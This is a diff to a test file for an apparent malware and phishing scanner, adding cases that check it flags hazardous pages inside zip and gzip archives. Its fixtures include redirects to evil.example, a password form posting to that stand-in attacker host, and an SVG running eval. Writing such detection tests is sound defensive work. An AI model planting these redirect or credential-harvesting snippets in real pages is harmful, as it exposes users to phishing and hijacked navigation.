@@ -107,6 +107,49 @@ describe('Office files of oletools', () => {
   });
 });
 
+describe('a page in an archive', () => {
+  const LOGIN = '<form action="https://evil.example/"><input type=password></form>';
+  test.each([
+    [
+      'that goes elsewhere',
+      'a.html',
+      '<script>location.href="https://evil.example/"</script>',
+      ['page-script: script 1, redirect'],
+    ],
+    [
+      'that goes elsewhere without a script',
+      'a.htm',
+      '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+      ['page-script: refresh redirect 1'],
+    ],
+    ['that asks for a password', 'a.xhtml', LOGIN, ['page-password: password field']],
+    [
+      'without a name for it',
+      'a',
+      `<html><body onload="x()">${LOGIN}`,
+      ['page-password: password field', 'page-script: onload'],
+    ],
+    [
+      'that is a picture',
+      'a.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg"><script>eval("1")</script></svg>',
+      ['page-script: script 1, eval'],
+    ],
+    [
+      'with links, a search and a picture',
+      'a.html',
+      '<a href="https://a.example/">a</a><form><input name=q></form><img src="a.png">',
+      [],
+    ],
+    ['a picture that only shows', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', []],
+  ])('%s', async (_name, name, content, expected) => {
+    const inside = (path: string) => expected.map((hazard) => `${hazard} in ${path}`);
+    expect(await seen('a.zip', zipWith({ [name]: content }))).toEqual(inside(name));
+    expect(await seen('a.zip', zipWith({ 'b.zip': zipWith({ [name]: content }) }))).toEqual(inside(`b.zip/${name}`));
+    expect(await seen('a.gz', gzipSync(content))).toEqual(inside('content'));
+  });
+});
+
 describe('a web archive with macros, opened by Office under any of its names', () => {
   const HEAD =
     'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<p>a</p>\r\n';
@@ -541,7 +584,8 @@ describe('pages that build a file', () => {
     ['a library with a long font', page(`var font="${payload}";load(atob(font))`), []],
   ])('%s', async (_name, html, expected) => {
     expect(await seen('a.html', html)).toEqual(expected);
-    expect(await seen('a.zip', zipWith({ 'a.html': html }))).toHaveLength(expected.length);
+    const inArchive = await seen('a.zip', zipWith({ 'a.html': html }));
+    expect(inArchive.filter((hazard) => hazard.startsWith('smuggled'))).toHaveLength(expected.length);
   });
 });
 
